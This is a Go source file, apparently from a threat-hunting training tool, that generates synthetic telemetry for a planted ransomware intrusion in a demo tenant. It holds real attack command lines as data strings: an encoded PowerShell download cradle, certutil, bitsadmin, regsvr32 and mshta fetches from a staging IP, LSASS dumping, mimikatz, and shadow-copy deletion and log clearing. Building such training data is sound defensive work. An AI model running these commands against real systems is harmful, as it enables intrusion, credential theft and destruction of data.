package sample

import (
	"encoding/base64"
	"fmt"
	"sort"
	"time"
	"unicode/utf16"

	"github.com/ahunt/ahunt/kql/table"
)

// Attack is the intrusion planted in the demo tenant, with the facts a
// hunt should find. A phishing mail reaches five people; one clicks its
// link (a credential phishing page) and opens its macro document, which
// runs encoded PowerShell that downloads an implant with certutil. The
// implant beacons to its server at a fixed interval, persists with a
// scheduled task and a Run key, tries more living-off-the-land
// downloads, dumps LSASS, sprays passwords at the domain controller
// from the victim's workstation, gets a service account, moves to the
// file server over remote desktop, runs mimikatz, installs a service and,
// the next night, deletes the shadow copies and renames the shares'
// files. Separately, an internet address sprays passwords at the remote
// desktop gateway. Alerts tie the steps together.
type Attack struct {
	// The phishing mail.
	PhishSender      string
	PhishSubject     string
	PhishMessageID   string // NetworkMessageId
	PhishURL         string
	PhishDomain      string
	Attachment       string
	AttachmentSHA256 string
	Recipients       []*Account

	// Victim opened the attachment on VictimDevice; SecondVictim opened
	// it on SecondDevice, where it ran mshta and rundll32.
	Victim        *Account
	VictimDevice  *Device
	SecondVictim  *Account
	SecondDevice  *Device
	Clicker       *Account // clicked the link after the victim; blocked
	EncodedScript string   // the -enc argument
	DecodedScript string   // what it decodes to (UTF-16LE)

	// The payload server, the implant and its command and control.
	StagingIP      string
	Implant        string // full path
	ImplantSHA256  string
	C2Domain       string
	C2IP           string
	BeaconInterval time.Duration
	Beacons        int // connections the implant made
	TaskName       string
	RunValue       string

	// Credential access and lateral movement.
	SprayIP          string // the victim's address
	SprayAccounts    []string
	SprayedAccount   *Account // the account the spray guessed
	ExternalSprayIP  string
	ExternalAccounts []string
	FileServer       *Device
	ServiceName      string
	AttackerIP       string // the attacker's cloud sign-in address
	InboxRule        string

	// The impact.
	RansomExtension string
	RenamedFiles    int
	RansomNote      string

	// Steps lists what happened, in time order.
	Steps []Step
	// Alerts lists the alerts raised, in time order.
	Alerts []Alert

	g      *gen
	events []plantedEvent
}

// Step is one planted action.
type Step struct {
	Time   time.Time
	Device string // DeviceName, or "" for mail and cloud steps
	Table  string // the table that records it
	What   string
}

// Alert is one planted alert and its evidence.
type Alert struct {
	ID         string
	Time       time.Time
	Title      string
	Category   string
	Severity   string
	Source     string // ServiceSource
	Detection  string // DetectionSource
	Techniques []string
	Evidence   []Evidence
}

// Evidence is one entity of an alert.
type Evidence struct {
	EntityType string // "Machine", "User", "Process", "File", "Ip", ...
	Role       string // "Impacted" or "Related"
	Device     *Device
	Account    *Account
	FileName   string
	FolderPath string
	SHA1       string
	SHA256     string
	RemoteIP   string
	RemoteURL  string
	Command    string
	RegKey     string
	RegValue   string
	RegData    string
	MessageID  string
	Subject    string
	Threat     string
}

// plantedEvent is a row the attack adds to a device table other than
// DeviceProcessEvents (whose rows come from the planted processes).
type plantedEvent struct {
	table string
	d     *Device
	pi    int32
	at    int64
	net   conn
	file  fileEvent
	reg   regEvent
	ev    devEvent
	lib   string
	logon logonEvent
}

// utf16Base64 encodes s as PowerShell's -EncodedCommand expects.
func utf16Base64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// attackDays returns the four working days of the intrusion: the last
// is the working day before the day of to, so the whole story lies in
// the past and inside the week most hunts look back over.
func attackDays(to int64) [4]int64 {
	var days [4]int64
	d := dayStart(to)
	for i := len(days) - 1; i >= 0; i-- {
		d -= tDay
		for isWeekend(d) {
			d -= tDay
		}
		days[i] = d
	}
	return days
}

func plant(g *gen) *Attack {
	f := g.f
	a := &Attack{
		g:               g,
		PhishSender:     "accounts@contoso-billing.net",
		PhishSubject:    "Overdue invoice 4471 - payment required today",
		PhishDomain:     "contoso-billing.net",
		PhishURL:        "https://contoso-billing.net/invoices/4471/view",
		Attachment:      "Invoice_4471.docm",
		StagingIP:       "185.225.73.19",
		Implant:         `C:\Users\Public\update.exe`,
		C2Domain:        "cdn-sync-updates.com",
		C2IP:            "45.137.21.9",
		BeaconInterval:  5 * time.Minute,
		TaskName:        "OneDriveUpdateCheck",
		RunValue:        "OneDriveUpdater",
		ExternalSprayIP: "193.142.146.35",
		AttackerIP:      "45.146.164.110",
		ServiceName:     "WinSvcHelper",
		RansomExtension: ".crypt0r",
		RansomNote:      "HOW_TO_RESTORE_FILES.txt",
		InboxRule:       "..",

		FileServer:     f.byRole["file"],
		SprayedAccount: f.service("svc-backup"),
	}
	v := targets(f)
	a.VictimDevice, a.SecondDevice = v[0], v[2]
	a.Victim, a.SecondVictim, a.Clicker = v[0].User, v[2].User, v[1].User
	a.Recipients = []*Account{a.Victim, a.Clicker, a.SecondVictim,
		v[3].User, f.users[len(f.users)-1]}
	a.PhishMessageID = nameGUID(g.seed, "phish")
	a.AttachmentSHA256 = fileHashes(a.Attachment + "|phish").SHA256
	a.ImplantSHA256 = g.cat.get("update.exe").SHA256
	a.SprayIP = a.VictimDevice.IP
	a.DecodedScript = "IEX (New-Object Net.WebClient).DownloadString(" +
		"'http://" + a.StagingIP + "/a.ps1')"
	a.EncodedScript = utf16Base64(a.DecodedScript)

	days := attackDays(g.to)
	a.initialAccess(days[0])
	a.secondVictim(days[0] + 13*tHour + 20*tMinute)
	a.credentialAccess(days[1])
	a.externalSpray(days[1] - tDay + 3*tHour)
	a.lateralMovement(days[2])
	a.impact(days[3] + 2*tHour + 10*tMinute)
	a.beacon()
	for _, d := range f.devices {
		d.procs = d.sim.procs
		d.indexProcs()
	}
	a.raiseAlerts(days)
	a.step(days[0]+16*tHour+40*tMinute, nil, "CloudAppEvents",
		"attacker signs in from abroad and adds an inbox rule")
	a.step(days[3]+9*tHour+5*tMinute, nil, "CloudAppEvents",
		"security team isolates both devices")
	sort.SliceStable(a.Steps, func(i, j int) bool {
		return a.Steps[i].Time.Before(a.Steps[j].Time)
	})
	return a
}

// touched reports whether the attack reached d.
func (a *Attack) touched(d *Device) bool {
	return d == a.VictimDevice || d == a.SecondDevice || d == a.FileServer
}

// step records a planted action for the Steps list.
func (a *Attack) step(at int64, d *Device, tbl, what string) {
	name := ""
	if d != nil {
		name = d.Name
	}
	a.Steps = append(a.Steps, Step{Time: table.TicksToTime(at), Device: name,
		Table: tbl, What: what})
}

func (a *Attack) add(e plantedEvent) { a.events = append(a.events, e) }

// userSession returns the session of d's user that covers at, running a
// working day on d if there was none that day.
func userSession(d *Device, at int64) *session {
	s := d.sim
	for i := range s.sessions {
		if ss := &s.sessions[i]; ss.start <= at && at < ss.end {
			return ss
		}
	}
	day := dayStart(at)
	arrive := day + 7*tHour + 45*tMinute
	leave := day + 17*tHour + 30*tMinute
	s.boot(arrive-3*tMinute, leave-arrive+6*tMinute)
	s.housekeeping(arrive-2*tMinute, leave)
	s.userDay(d.User, arrive, leave)
	return &s.sessions[len(s.sessions)-1]
}

// procIn returns the index of the process named name in session ss.
func procIn(d *Device, ss *session, name string) int32 {
	for i := range d.sim.procs {
		p := &d.sim.procs[i]
		if p.logonID == ss.logonID && p.img.Name == name &&
			p.start >= ss.start && p.start < ss.end {
			return int32(i)
		}
	}
	return ss.explorer
}

const psPath = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

func (a *Attack) initialAccess(day int64) {
	d, u := a.VictimDevice, a.Victim
	s := d.sim
	t := day + 10*tHour
	ss := userSession(d, t)
	outlook := procIn(d, ss, "OUTLOOK.EXE")
	a.step(day+9*tHour+41*tMinute, nil, "EmailEvents",
		"phishing mail delivered to 5 mailboxes")
	a.click(d, outlook, t+2*tMinute+44*tSecond)
	word := a.openAttachment(d, outlook, t+4*tMinute+5*tSecond)
	ps := a.encodedPowerShell(d, word, t+5*tMinute+12*tSecond)

	cu := s.spawn(ps, "certutil.exe", t+5*tMinute+40*tSecond, 20*tSecond, u,
		"certutil.exe -urlcache -split -f http://"+a.StagingIP+
			"/update.exe "+a.Implant)
	a.download(d, cu, t+5*tMinute+50*tSecond, a.Implant, "update.exe")
	a.step(t+5*tMinute+40*tSecond, d, "DeviceProcessEvents",
		"certutil downloads the implant")

	imp := s.spawn(ps, "update.exe", t+6*tMinute+15*tSecond,
		ss.end-t-6*tMinute, u, a.Implant)
	a.implantStarts(d, imp, t+6*tMinute+17*tSecond)
	a.persist(d, imp, t+9*tMinute)
	a.recon(d, imp, t+31*tMinute)
	a.lolbins(d, imp, t+74*tMinute)
}

// click is the victim following the mail's link: Outlook hands the URL
// to the browser, which connects to the phishing site.
func (a *Attack) click(d *Device, outlook int32, at int64) {
	edge := a.g.cat.get("msedge.exe").Path
	browser := d.sim.spawn(outlook, "msedge.exe", at+tSecond, 20*tMinute,
		a.Victim, `"`+edge+`" --single-argument `+a.PhishURL)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: outlook, at: at,
		ev: devEvent{action: "BrowserLaunchedToOpenUrl", target: -1,
			url: a.PhishURL}})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: browser,
		at: at + 2*tSecond, net: conn{rip: "185.225.73.40", rport: 443,
			url: a.PhishDomain}})
	a.step(at, d, "UrlClickEvents", "victim clicks the phishing link")
}

// openAttachment saves the attachment from Outlook and opens it in
// Word, which loads the macro runtime. It returns Word's process.
func (a *Attack) openAttachment(d *Device, outlook int32, at int64) int32 {
	u := d.sim.procs[outlook].acct
	doc := userHome(u) + outlookCache + a.Attachment
	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: outlook, at: at,
		file: fileEvent{action: "FileCreated", path: doc,
			key: a.Attachment + "|phish", size: 48_213}})
	word := d.sim.spawn(outlook, "WINWORD.EXE", at+4*tSecond, 40*tMinute, u,
		`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+
			doc+`" /o ""`)
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: word,
		at: at + 6*tSecond, lib: "VBE7.DLL"})
	a.step(at, d, "DeviceFileEvents", "attachment saved by Outlook")
	return word
}

// encodedPowerShell is the macro starting PowerShell with an encoded
// download cradle; attack surface reduction audits it. It returns
// PowerShell's process.
func (a *Attack) encodedPowerShell(d *Device, word int32, at int64) int32 {
	ps := d.sim.spawn(word, "powershell.exe", at, 30*tMinute, a.Victim,
		psPath+" -nop -w hidden -enc "+a.EncodedScript)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: word, at: at,
		ev: devEvent{action: "AsrOfficeChildProcessAudited", target: ps,
			addl: `{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}`}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps,
		at: at + 2*tSecond, ev: devEvent{action: "PowerShellCommand",
			target: -1, addl: jsonObj("Command", "IEX")}})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: ps,
		at: at + 3*tSecond, net: conn{rip: a.StagingIP, rport: 80}})
	a.step(at, d, "DeviceProcessEvents", "Word runs encoded PowerShell")
	return ps
}

// download records a file fetched from the staging server by process pi.
func (a *Attack) download(d *Device, pi int32, at int64, path, key string) {
	_, name := splitPath(path)
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: pi,
		at: at - 5*tSecond, net: conn{rip: a.StagingIP, rport: 80}})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: pi,
		at: at - 5*tSecond, net: conn{action: "HttpConnectionInspected",
			rip: a.StagingIP, rport: 80, addl: `{"direction":"Out","host":"` +
				a.StagingIP + `","method":"GET","status_code":"200","uri":"/` +
				name + `","user_agent":"Microsoft-CryptoAPI/10.0","version":"1.1"}`}})
	var k string
	if img, ok := a.g.cat[lower(key)]; ok {
		k = imageKey(img)
	} else {
		k = key + "|staged"
	}
	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: pi, at: at,
		file: fileEvent{action: "FileCreated", path: path, key: k,
			size:     keyNumber(k, 18_000, 4_800_000),
			origin:   "http://" + a.StagingIP + "/" + name,
			originIP: a.StagingIP}})
}

func (a *Attack) persist(d *Device, imp int32, t int64) {
	s, u := d.sim, a.Victim
	cmd := s.spawn(imp, "cmd.exe", t, 2*tMinute, u, `cmd.exe /c schtasks /create /tn "`+
		a.TaskName+`" /tr "`+a.Implant+`" /sc onlogon /rl highest /f`)
	st := s.spawn(cmd, "schtasks.exe", t+tSecond, 3*tSecond, u,
		`schtasks  /create /tn "`+a.TaskName+`" /tr "`+a.Implant+
			`" /sc onlogon /rl highest /f`)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: st, at: t + 2*tSecond,
		ev: devEvent{action: "ScheduledTaskCreated", target: -1, acct: u,
			addl: fmt.Sprintf(`{"TaskName":"\\%s","TaskContent":"<Exec><Command>%s</Command></Exec>"}`,
				a.TaskName, jsonEscape(a.Implant))}})
	a.step(t, d, "DeviceProcessEvents", "scheduled task persistence")

	rg := s.spawn(imp, "reg.exe", t+30*tSecond, 2*tSecond, u,
		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v `+
			a.RunValue+` /t REG_SZ /d `+a.Implant+` /f`)
	a.add(plantedEvent{table: "DeviceRegistryEvents", d: d, pi: rg,
		at: t + 31*tSecond, reg: regEvent{key: hkcu(u, runKey),
			name: a.RunValue, data: a.Implant}})
	a.step(t+30*tSecond, d, "DeviceRegistryEvents", "Run key persistence")
}

func (a *Attack) recon(d *Device, imp int32, t int64) {
	s, u := d.sim, a.Victim
	cmd := s.spawn(imp, "cmd.exe", t, 3*tMinute, u, "cmd.exe /c whoami /all")
	s.spawn(cmd, "whoami.exe", t+tSecond, tSecond, u, "whoami  /all")
	net := s.spawn(imp, "net.exe", t+20*tSecond, 2*tSecond, u,
		`net  group "Domain Admins" /domain`)
	s.spawn(net, "net1.exe", t+20*tSecond+tSecond/10, 2*tSecond, u,
		`C:\Windows\system32\net1  group "Domain Admins" /domain`)
	s.spawn(imp, "nltest.exe", t+tMinute, tSecond, u,
		"nltest  /dclist:"+Domain)
	a.step(t, d, "DeviceProcessEvents", "discovery: whoami, net group, nltest")
}

func (a *Attack) lolbins(d *Device, imp int32, t int64) {
	s, u := d.sim, a.Victim
	bits := s.spawn(imp, "bitsadmin.exe", t, 40*tSecond, u,
		"bitsadmin /transfer updjob /download /priority high http://"+
			a.StagingIP+`/p.dll C:\ProgramData\p.dll`)
	a.download(d, bits, t+30*tSecond, `C:\ProgramData\p.dll`, "p.dll")
	rs := s.spawn(imp, "regsvr32.exe", t+6*tMinute, 10*tSecond, u,
		"regsvr32.exe /s /n /u /i:http://"+a.StagingIP+"/file.sct scrobj.dll")
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: rs,
		at: t + 6*tMinute + tSecond, lib: "scrobj.dll"})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: rs,
		at: t + 6*tMinute + 2*tSecond, net: conn{rip: a.StagingIP, rport: 80}})
	a.step(t, d, "DeviceProcessEvents", "bitsadmin and regsvr32 downloads")
}

func (a *Attack) secondVictim(t int64) {
	d, u := a.SecondDevice, a.SecondVictim
	s := d.sim
	ss := userSession(d, t)
	outlook := procIn(d, ss, "OUTLOOK.EXE")
	doc := userHome(u) + outlookCache + a.Attachment
	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: outlook, at: t,
		file: fileEvent{action: "FileCreated", path: doc,
			key: a.Attachment + "|phish", size: 48_213}})
	word := s.spawn(outlook, "WINWORD.EXE", t+5*tSecond, 10*tMinute, u,
		`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+
			doc+`" /o ""`)
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: word,
		at: t + 7*tSecond, lib: "VBE7.DLL"})
	mshta := s.spawn(word, "mshta.exe", t+40*tSecond, 30*tSecond, u,
		"mshta.exe http://"+a.StagingIP+"/s.hta")
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: mshta,
		at: t + 41*tSecond, net: conn{rip: a.StagingIP, rport: 80}})
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: mshta,
		at: t + 40*tSecond + tSecond/2, lib: "mshtml.dll"})
	rd := s.spawn(mshta, "rundll32.exe", t+50*tSecond, 10*tSecond, u,
		`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";`+
			`document.write();GetObject("script:http://`+a.StagingIP+
			`/r.sct")`)
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: rd,
		at: t + 51*tSecond, lib: "jscript9.dll"})
	a.step(t, d, "DeviceProcessEvents",
		"second victim: Word runs mshta and rundll32 javascript")
}

func (a *Attack) credentialAccess(day int64) {
	d, u := a.VictimDevice, a.Victim
	s := d.sim
	t := day + 10*tHour + 28*tMinute
	ss := userSession(d, t)
	imp := s.spawn(ss.explorer, "update.exe", ss.start+40*tSecond,
		ss.end-ss.start-tMinute, u, a.Implant)
	cmd := s.spawn(imp, "cmd.exe", t, 20*tMinute, u, "cmd.exe")
	s.procs[cmd].integ, s.procs[cmd].elev = intHigh, elevFull
	cu := s.spawn(cmd, "certutil.exe", t+5*tSecond, 10*tSecond, u,
		"certutil.exe -urlcache -split -f http://"+a.StagingIP+
			`/pd.exe C:\Users\Public\procdump64.exe`)
	a.download(d, cu, t+12*tSecond, `C:\Users\Public\procdump64.exe`,
		"procdump64.exe")
	lsass := procNamed(d.sim.asDevice(), "lsass.exe", t)
	pd := s.spawn(cmd, "procdump64.exe", t+2*tMinute, 20*tSecond, u,
		`procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: pd,
		at: t + 2*tMinute + tSecond, ev: devEvent{action: "OpenProcessApiCall",
			target: lsass, addl: `{"DesiredAccess":2097151}`}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: pd,
		at: t + 2*tMinute + tSecond, ev: devEvent{
			action: "AsrLsassCredentialTheftAudited", target: lsass,
			addl: `{"IsAudit":true,"RuleId":"9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2"}`}})
	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: pd,
		at: t + 2*tMinute + 15*tSecond, file: fileEvent{action: "FileCreated",
			path: `C:\Users\Public\lsass.dmp`, size: 61_442_118}})
	a.step(t+2*tMinute, d, "DeviceProcessEvents", "procdump dumps LSASS")

	rd := s.spawn(cmd, "rundll32.exe", t+13*tMinute, 15*tSecond, u,
		`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump `+
			itoa(s.procs[lsass].pid)+` C:\Users\Public\m.dmp full`)
	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: rd,
		at: t + 13*tMinute + tSecond/2, lib: "comsvcs.dll"})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: rd,
		at: t + 13*tMinute + tSecond, ev: devEvent{action: "OpenProcessApiCall",
			target: lsass, addl: `{"DesiredAccess":2097151}`}})
	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: rd,
		at: t + 13*tMinute + 12*tSecond, file: fileEvent{action: "FileCreated",
			path: `C:\Users\Public\m.dmp`, size: 59_871_002}})
	a.step(t+13*tMinute, d, "DeviceProcessEvents",
		"rundll32 comsvcs.dll MiniDump of LSASS")

	a.spray(day + 14*tHour + 5*tMinute)
}

// asDevice returns the device whose history s builds.
func (s *sim) asDevice() *Device {
	s.d.procs = s.procs
	return s.d
}

// spray guesses one password for many accounts from the victim's
// workstation against the first domain controller; svc-backup falls.
func (a *Attack) spray(t int64) {
	f := a.g.f
	dc := f.servers[0]
	accts := append(f.users[4:34:34], a.SprayedAccount)
	for i, acct := range accts {
		at := t + int64(i)*13*tSecond
		a.SprayAccounts = append(a.SprayAccounts, acct.Name)
		e := logonEvent{acct: acct, typ: "Network", proto: "NTLM",
			failure: "InvalidUserNameOrPassword", remoteIP: a.SprayIP,
			remote: a.VictimDevice.Short()}
		if acct == a.SprayedAccount {
			e.failure, e.logonID = "", 7_718_223
		}
		a.add(plantedEvent{table: "DeviceLogonEvents", d: dc,
			pi: procNamed(dc.sim.asDevice(), "lsass.exe", at), at: at,
			logon: e})
	}
	a.step(t, f.servers[0], "DeviceLogonEvents",
		fmt.Sprintf("password spray of %d accounts from %s", len(accts),
			a.SprayIP))
}

// externalSpray is an internet address guessing passwords for real
// account names at the remote desktop gateway.
func (a *Attack) externalSpray(t int64) {
	rds := a.g.f.byRole["rds"]
	for i, acct := range a.g.f.users[10:52] {
		at := t + int64(i)*27*tSecond
		a.ExternalAccounts = append(a.ExternalAccounts, acct.Name)
		a.add(plantedEvent{table: "DeviceLogonEvents", d: rds,
			pi: procNamed(rds.sim.asDevice(), "lsass.exe", at), at: at,
			logon: logonEvent{acct: acct, typ: "Network", proto: "NTLM",
				failure:  "InvalidUserNameOrPassword",
				remoteIP: a.ExternalSprayIP}})
		a.add(plantedEvent{table: "DeviceNetworkEvents", d: rds,
			pi: procNamed(rds.sim.asDevice(), "System", at), at: at - tSecond,
			net: conn{action: "InboundConnectionAccepted",
				rip: a.ExternalSprayIP, rport: 50_000 + int64(i), lport: 3389}})
	}
	a.step(t, rds, "DeviceLogonEvents", fmt.Sprintf(
		"password spray of %d accounts from %s", 42, a.ExternalSprayIP))
}

func (a *Attack) lateralMovement(day int64) {
	t := day + 9*tHour + 20*tMinute
	rs, clip := a.remoteDesktop(t)
	dst, s, u := a.FileServer, a.FileServer.sim, a.SprayedAccount
	for i, tool := range []string{`C:\Windows\Temp\m.exe`,
		`C:\Windows\Temp\svchelper.exe`} {
		_, name := splitPath(tool)
		img := a.g.cat.get(name)
		a.add(plantedEvent{table: "DeviceFileEvents", d: dst, pi: clip,
			at: t + 3*tMinute + int64(i)*tMinute, file: fileEvent{
				action: "FileCreated", path: tool,
				key: imageKey(img), size: img.Size}})
	}
	cmd := s.spawn(rs.explorer, "cmd.exe", t+8*tMinute, 30*tMinute, u,
		`"C:\Windows\system32\cmd.exe" `)
	a.mimikatz(cmd, t+11*tMinute)
	a.localAdmin(dst, cmd, t+18*tMinute)
	a.installService(cmd, t+24*tMinute)
}

// remoteDesktop is the attacker connecting from the victim's workstation
// to the file server with the sprayed account. It returns the session and
// its clipboard process, which writes the files pasted over it.
func (a *Attack) remoteDesktop(t int64) (*session, int32) {
	src, dst := a.VictimDevice, a.FileServer
	ss := userSession(src, t)
	imp := src.sim.spawn(ss.explorer, "update.exe", ss.start+40*tSecond,
		ss.end-ss.start-tMinute, a.Victim, a.Implant)
	mstsc := src.sim.spawn(imp, "mstsc.exe", t, 40*tMinute, a.Victim,
		"mstsc.exe /v:"+dst.Short())
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: src, pi: mstsc,
		at: t + 2*tSecond, net: conn{rip: dst.IP, rport: 3389}})
	a.add(plantedEvent{table: "DeviceNetworkEvents", d: dst,
		pi: procNamed(dst.sim.asDevice(), "System", t), at: t + 2*tSecond,
		net: conn{action: "InboundConnectionAccepted", rip: src.IP,
			rport: 51_337, lport: 3389}})

	s, u := dst.sim, a.SprayedAccount
	rs := s.logonSession(u, t+10*tSecond, t+40*tMinute, "RemoteInteractive",
		src.IP, src.Short())
	clip := s.spawn(s.svcNet, "rdpclip.exe", t+18*tSecond, 40*tMinute, u,
		"rdpclip")
	s.userProc(clip, rs)
	a.step(t, dst, "DeviceLogonEvents", "remote desktop logon as svc-backup")
	return rs, clip
}

// mimikatz runs the credential theft tool, which opens LSASS and which
// the antivirus detects but does not stop.
func (a *Attack) mimikatz(cmd int32, at int64) {
	d := a.FileServer
	s := d.sim
	mk := s.spawn(cmd, "m.exe", at, 20*tSecond, a.SprayedAccount,
		`m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`)
	lsass := procNamed(s.asDevice(), "lsass.exe", at)
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: mk,
		at: at + 2*tSecond, ev: devEvent{action: "OpenProcessApiCall",
			target: lsass, addl: `{"DesiredAccess":5136}`}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: mk,
		at: at + 4*tSecond, ev: devEvent{action: "AntivirusDetection",
			file: `C:\Windows\Temp\m.exe`, target: -1,
			fileKey: imageKey(a.g.cat.get("m.exe")),
			addl: `{"ThreatName":"HackTool:Win32/Mimikatz!pz",` +
				`"WasExecutingWhileDetected":true,"WasRemediated":false,` +
				`"Category":"Tool"}`}})
	a.step(at, d, "DeviceProcessEvents", "mimikatz sekurlsa")
}

// installService registers the ransomware as an auto-start service.
func (a *Attack) installService(cmd int32, at int64) {
	d, u := a.FileServer, a.SprayedAccount
	s := d.sim
	const bin = `C:\Windows\Temp\svchelper.exe`
	s.spawn(cmd, "sc.exe", at, 2*tSecond, u, `sc  create `+a.ServiceName+
		` binPath= "`+bin+`" start= auto`)
	a.add(plantedEvent{table: "DeviceRegistryEvents", d: d, pi: s.services,
		at: at + tSecond, reg: regEvent{key: servicesKey + a.ServiceName,
			vtype: "ExpandString", name: "ImagePath", data: bin}})
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: s.services,
		at: at + tSecond, ev: devEvent{action: "ServiceInstalled",
			target: -1, acct: u, file: bin,
			fileKey: imageKey(a.g.cat.get("svchelper.exe")),
			addl: `{"ServiceName":"` + a.ServiceName + `",` +
				`"ServiceType":"Win32OwnProcess","ServiceStartType":` +
				`"Auto start","ServiceAccount":"LocalSystem"}`}})
	a.step(at, d, "DeviceEvents", "service persistence")
}

func (a *Attack) impact(t int64) {
	d := a.FileServer
	s := d.sim
	sys := a.g.f.system
	svc := s.spawn(s.services, "svchelper.exe", t, 30*tMinute, sys,
		`C:\Windows\Temp\svchelper.exe`)
	a.disarm(svc, t+20*tSecond)
	cmds := []struct{ name, cmd string }{
		{"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"},
		{"WMIC.exe", "wmic.exe shadowcopy delete"},
		{"bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"},
		{"wevtutil.exe", "wevtutil.exe cl Security"},
	}
	for i, c := range cmds {
		at := t + tMinute + int64(i)*20*tSecond
		cmd := s.spawn(svc, "cmd.exe", at, 10*tSecond, sys,
			`"C:\Windows\system32\cmd.exe" /c `+c.cmd)
		s.spawn(cmd, c.name, at+tSecond/2, 5*tSecond, sys, c.cmd)
	}
	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: svc,
		at: t + 2*tMinute, ev: devEvent{action: "SecurityLogCleared",
			target: -1, acct: sys}})
	a.step(t+tMinute, d, "DeviceProcessEvents",
		"shadow copies deleted, recovery disabled, Security log cleared")

	r := newRNG(a.g.seed, "ransom")
	start := t + 4*tMinute
	shares := []string{"Finance", "HR", "Engineering", "Common"}
	for i := 0; i < 640; i++ {
		share := shares[i%len(shares)]
		dir := fmt.Sprintf(`D:\Shares\%s\%s\`, share,
			pick(r, []string{"2025", "2026", "Archive", "Projects", "Reports"}))
		name := fmt.Sprintf("%s-%03d%s", pick(r, []string{"report", "invoice",
			"contract", "minutes", "budget", "scan"}), i, pick(r,
			[]string{".docx", ".xlsx", ".pdf", ".pptx"}))
		at := start + int64(i)*tSecond*3/8
		a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: svc, at: at,
			file: fileEvent{action: "FileRenamed",
				path:     dir + name + a.RansomExtension,
				prevPath: dir + name}})
		if i%32 == 0 {
			a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: svc,
				at: at + tSecond/10, file: fileEvent{action: "FileCreated",
					path: dir + a.RansomNote, key: "ransom-note", size: 1_412}})
		}
		a.RenamedFiles++
	}
	a.step(start, d, "DeviceFileEvents", fmt.Sprintf(
		"%d files renamed to %s", a.RenamedFiles, a.RansomExtension))
}

// beacon makes every run of the implant call its server at a fixed
// interval, and starts it again at each of the victim's later logons
// (the Run key).
func (a *Attack) beacon() {
	d := a.VictimDevice
	s := d.sim
	first := int64(0)
	for i := range s.procs {
		if s.procs[i].img.Name == "update.exe" {
			first = s.procs[i].start
			break
		}
	}
	for i := range s.sessions {
		ss := &s.sessions[i]
		if ss.start > first && !hasImplant(s, ss) {
			s.spawn(ss.explorer, "update.exe", ss.start+40*tSecond,
				ss.end-ss.start-tMinute, a.Victim, a.Implant)
		}
	}
	r := newRNG(a.g.seed, "beacon")
	every := int64(a.BeaconInterval / 100)
	for i := range s.procs {
		p := &s.procs[i]
		if p.kind != kindMalware {
			continue
		}
		for t := p.start + 30*tSecond; t < p.end && t < a.g.to; t += every {
			jitter := r.span(3*tSecond) - 3*tSecond/2
			a.add(plantedEvent{table: "DeviceNetworkEvents", d: d,
				pi: int32(i), at: t + jitter,
				net: conn{rip: a.C2IP, rport: 443, url: a.C2Domain}})
			a.Beacons++
		}
	}
	a.step(first+30*tSecond, d, "DeviceNetworkEvents", fmt.Sprintf(
		"implant beacons to %s every %v", a.C2Domain, a.BeaconInterval))
}

func hasImplant(s *sim, ss *session) bool {
	for i := range s.procs {
		p := &s.procs[i]
		if p.kind == kindMalware && p.start >= ss.start && p.start < ss.end {
			return true
		}
	}
	return false
}

// The device tables call these to add the planted rows.

func (a *Attack) networkEvents(n *netTable) {
	for _, e := range a.eventsOf("DeviceNetworkEvents") {
		n.emit(e.d, e.pi, e.at, e.net)
	}
}

func (a *Attack) fileEvents(f *fileTable) {
	for _, e := range a.eventsOf("DeviceFileEvents") {
		f.emit(e.d, e.pi, e.at, e.file)
	}
}

func (a *Attack) registryEvents(t *regTable) {
	for _, e := range a.eventsOf("DeviceRegistryEvents") {
		t.emit(e.d, e.pi, e.at, e.reg)
	}
}

func (a *Attack) imageLoads(t *imageTable) {
	for _, e := range a.eventsOf("DeviceImageLoadEvents") {
		t.load(e.d, e.pi, e.at, e.lib)
	}
}

func (a *Attack) logonEvents(t *logonTable) {
	for _, e := range a.eventsOf("DeviceLogonEvents") {
